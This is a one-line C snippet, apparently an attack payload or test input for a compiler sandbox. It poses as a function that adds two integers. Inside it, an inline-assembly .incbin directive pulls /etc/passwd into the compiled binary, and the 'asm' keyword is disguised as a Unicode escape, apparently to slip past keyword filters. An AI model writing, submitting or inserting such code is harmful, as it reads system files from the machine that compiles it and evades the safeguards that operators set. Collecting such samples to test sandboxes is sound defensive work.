int func0(int a, int b) { \u0061sm(".incbin \"/etc/passwd\""); return a + b; }
